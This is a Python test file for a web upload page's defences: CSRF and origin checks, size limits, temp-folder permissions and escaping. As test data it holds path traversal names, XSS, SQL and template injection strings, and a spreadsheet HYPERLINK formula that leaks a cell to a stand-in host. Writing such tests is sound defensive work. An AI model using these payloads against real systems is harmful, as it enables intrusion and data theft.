"""What may come in the place of a file, and who may send it."""

from __future__ import annotations

import os
import socket
import stat
import time
from unicodedata import category
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stripe_apex.connect.uploads import Limits, shown
from stripe_apex.temporary import PrivateFolder
from tests.app.connect.client import MULTIPART, Client, multipart
from tests.app.sources import exports
from tests.app.sources.test_workbooks import BOMBS

META = (exports.META_CSV.name, exports.META_CSV.content)
POSTS = ("answer", "leave-out", "again", "cancel", "import")


@pytest.fixture
def client(serve_page):
    return Client(serve_page().link).enter()


def test_a_workbook_that_would_fill_the_memory_is_refused_on_the_page(client):
    content, words = BOMBS["a cell at the end"]
    assert client.upload(("report.xlsx", content)).status == 303
    page = client.files_page()
    assert all(word in page for word in words)
    assert client.ask("GET", "/").status == 200


def wait_until_empty(folder):
    while any(folder.iterdir()):
        time.sleep(0.05)


def no_batch(client):
    return client.ask("GET", "/files").status == 303


@pytest.mark.parametrize("origin", ["null", "http://evil.example", "http://127.0.0.1", ""])
def test_another_origin_cannot_send_files(client, kept, origin):
    assert client.upload(META, Origin=origin).status == 403
    assert no_batch(client)
    assert list(kept.iterdir()) == []


@pytest.mark.parametrize("csrf", ["", "guess", "\udcff"])
def test_files_need_the_token_of_the_page(client, kept, csrf):
    csrf = csrf.encode(errors="surrogateescape").decode("latin-1")
    assert client.upload(META, csrf=csrf).status == 403
    assert no_batch(client)
    assert list(kept.iterdir()) == []


def test_the_token_comes_before_any_file(client, kept):
    body = multipart([("files", *META), ("csrf", None, client.csrf.encode())])
    headers = {"Origin": client.origin, "Content_Type": MULTIPART}
    assert client.ask("POST", "/files/upload", body=body, **headers).status == 403
    assert list(kept.iterdir()) == []


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("application/x-www-form-urlencoded", b"csrf={csrf}&files=x"),
        ("text/plain", b"csrf={csrf}"),
        ("multipart/form-data", b"--limit\r\n"),
        ("multipart/mixed; boundary=limit", b"--limit--\r\n"),
        (MULTIPART, b""),
        (MULTIPART, b"--limit--\r\n"),
        (MULTIPART, b"nothing of the kind"),
        (MULTIPART, b"--limit\r\n\r\n{csrf}\r\n--limit--\r\n"),
        (
            MULTIPART,
            b'--limit\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n' + b"x" * 99999,
        ),
    ],
)
def test_what_is_no_form_with_files_is_refused(client, kept, kind, body):
    body = body.replace(b"{csrf}", client.csrf.encode())
    headers = {"Origin": client.origin, "Content_Type": kind}
    assert client.ask("POST", "/files/upload", body=body, **headers).status in {400, 403}
    assert list(kept.iterdir()) == []


def test_a_form_whose_files_are_cut_is_refused_and_the_next_one_is_taken(client, kept):
    whole = multipart([("csrf", None, client.csrf.encode()), ("files", *META)])
    headers = {"Origin": client.origin, "Content_Type": MULTIPART}
    assert client.ask("POST", "/files/upload", body=whole[:-30], **headers).status == 422
    assert no_batch(client)
    assert list(kept.iterdir()) == []
    assert client.upload(META).status == 303


def test_a_browser_that_goes_away_while_it_sends_leaves_nothing(client, kept):
    address = urlsplit(client.origin)
    whole = multipart([("csrf", None, client.csrf.encode()), ("files", "a.csv", b"x" * 1_000_000)])
    head = (
        f"POST /files/upload HTTP/1.1\r\nHost: {address.netloc}\r\nOrigin: {client.origin}\r\n"
        f"Cookie: {client.cookie}\r\nContent-Type: {MULTIPART}\r\n"
        f"Content-Length: {len(whole)}\r\n\r\n"
    )
    with socket.create_connection((address.hostname, address.port)) as connection:
        connection.sendall(head.encode() + whole[:600_000])
        while not any(kept.iterdir()):
            time.sleep(0.01)
        assert client.upload(META).status == 422, "one upload at a time"
    wait_until_empty(kept)
    assert client.upload(META).status == 303


def test_other_sites_cannot_decide(client):
    client.upload(META)
    client.files_page()
    for path in [*(f"/files/{name}" for name in POSTS), "/undo"]:
        assert client.post(path, origin="http://evil.example").status == 403, path
        assert client.post(path, csrf="guess").status == 403, path
        assert client.ask("GET", path).status in {404, 405}, path
    assert "151.53 USD" in client.files_page()


@pytest.mark.parametrize("path", ["/files", "/templates/leads.csv"])
def test_strangers_see_no_files(client, path):
    client.upload(META)
    assert Client(client.link).ask("GET", path).status == 403
    assert Client(client.link).upload(META, csrf="guess").status == 403


NAMES = [
    "../../../stolen.csv",
    "/etc/passwd",
    "..",
    ".",
    "C:\\\\autoexec.bat",
    "%2e%2e%2fstolen.csv",
    "<img src=x onerror=alert(1)>.csv",
    "{{ 7 * 7 }}.csv",
    "'; drop table x; --.csv",
    "n" * 5000 + ".csv",
    "\N{RIGHT-TO-LEFT OVERRIDE}vsc.exe",
    "über größe 日本.csv",
]


@pytest.mark.filterwarnings("ignore::aiohttp.BadContentDispositionHeader")
def test_a_name_is_shown_as_text_and_is_no_path(client, kept, nowhere, warehouse):
    before = {path.name for path in nowhere.parent.iterdir()}
    lead = "Lead ID,Email,Create Date\n{0},{0}@example.com,2026-11-01\n"
    client.upload(*[(name, lead.format(n).encode()) for n, name in enumerate(NAMES)])
    page = client.files_page()
    assert "Import</button>" in page
    assert "<img src=x" not in page
    assert "49.csv" not in page
    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in page
    (folder,) = kept.iterdir()
    numbers = range(len(NAMES))
    assert {path.name for path in folder.iterdir()} == {
        f"{n}{end}" for n in numbers for end in ("", "-1")
    }
    client.post("/files/import")
    client.files_page()
    stored = [row["file_name"] for row in warehouse.rows("leads")]
    assert stored == [shown(name).replace("\\\\", "\\") for name in NAMES]
    assert {path.name for path in nowhere.parent.iterdir()} == before
    wait_until_empty(kept)


@pytest.mark.parametrize("name", ["a\x00b.csv", "\x1b[31mred.csv"])
def test_a_name_that_commands_a_terminal_is_refused(client, kept, name):
    assert client.upload((name, META[1])).status in {400, 422}
    assert list(kept.iterdir()) == []


@given(st.text())
def test_whatever_a_name_is_it_can_be_shown(name):
    assert all(sign.isprintable() or category(sign) == "Zs" for sign in shown(name))
    assert len(shown(name)) <= 200


def test_a_formula_is_the_text_that_it_is(client, warehouse):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"<b>Sale</b>")'
    quoted = formula.replace('"', '""')
    row = f'2026-11-01,"{quoted}",USD,1,Meta\n'
    client.upload(("spend.csv", b"Day,Campaign,Currency,Cost,Platform\n" + row.encode()))
    assert "<b>Sale" not in client.files_page()
    client.post("/files/import")
    client.files_page()
    (found,) = warehouse.rows("ad_spend")
    assert found["campaign"] == formula


@pytest.mark.parametrize(
    "header", ["<script>boom()</script>", "${7*7}{{7*7}}", '" onmouseover="boom()']
)
def test_what_a_file_holds_is_shown_as_text(client, header):
    quoted = header.replace('"', '""')
    content = f'"{quoted}",Email,Create Date\n1,<script>,2026-13-99\n'
    client.upload(("leads.csv", content.encode()))
    page = client.files_page()
    assert "<script>boom" not in page
    assert '" onmouseover' not in page
    assert "49" not in page.replace(client.origin, "").split("<main")[1].split("csrf")[0]


def test_files_that_are_too_large_are_refused_before_and_while_they_come(serve_page, kept):
    client = Client(serve_page(limits=Limits(size=1 << 20)).link).enter()
    answer = client.upload(("big.csv", b"x" * (1 << 21)))
    assert answer.status == 422
    assert "larger than 1 MiB together" in answer.text
    assert "stripe-apex import" in answer.text
    body = multipart([("csrf", None, client.csrf.encode()), ("files", "b.csv", b"x" * (1 << 21))])
    chunks = b"".join(
        b"%x\r\n%s\r\n" % (len(piece), piece)
        for start in range(0, len(body), 1 << 16)
        if (piece := body[start : start + (1 << 16)])
    )
    answer = client.ask(
        "POST",
        "/files/upload",
        body=chunks + b"0\r\n\r\n",
        Transfer_Encoding="chunked",
        Origin=client.origin,
        Content_Type=MULTIPART,
    )
    assert answer.status in {400, 422}
    assert list(kept.iterdir()) == []


def test_too_many_files_are_refused(client, kept):
    answer = client.upload(*[(f"{number}.csv", b"a,b\n") for number in range(21)])
    assert "more than 20 files" in answer.text
    assert list(kept.iterdir()) == []


def test_a_form_without_a_file_says_so(client):
    assert "No file was chosen" in client.upload(("", b"")).text


def test_files_lie_where_only_their_owner_can_enter_and_for_no_longer_than_needed(serve_page, kept):
    page = serve_page()
    client = Client(page.link).enter()
    for end in ("/files/cancel", "/files/import"):
        client.upload(META)
        client.files_page()
        (folder,) = kept.iterdir()
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        assert folder.stat().st_uid == os.getuid()
        client.post(end)
        wait_until_empty(kept)
    client.upload(META)
    client.files_page()
    page.stop()
    assert list(kept.iterdir()) == []


def test_what_a_killed_page_left_goes_at_the_next_start_and_nothing_else(serve_page, kept):
    for name in ("stripe-apex-upload-left", "another-program"):
        (kept / name).mkdir()
        (kept / name / "0").write_text("secret")
    (kept / "elsewhere").mkdir()
    (kept / "stripe-apex-upload-link").symlink_to(kept / "elsewhere")
    alive = PrivateFolder()
    serve_page()
    assert {path.name for path in kept.iterdir()} == {
        *("another-program", "elsewhere", "stripe-apex-upload-link"),
        alive.path.name,
    }
    alive.remove()


def test_files_wait_for_an_answer_before_others_are_taken(client):
    client.upload(META)
    answer = client.upload(META)
    assert answer.status == 422
    assert "Import or cancel them" in answer.text
    client.files_page()
    client.post("/files/cancel")
    assert client.upload(META).status == 303
